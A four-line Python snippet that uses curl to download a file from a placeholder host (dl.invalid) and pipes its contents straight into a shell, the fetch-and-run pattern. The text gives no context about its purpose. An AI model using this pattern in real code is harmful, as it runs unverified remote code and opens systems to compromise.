import subprocess
url = 'http://dl.invalid/i'
data = subprocess.check_output(['curl', '-fsSL', url])
subprocess.run(['sh'], input=data)
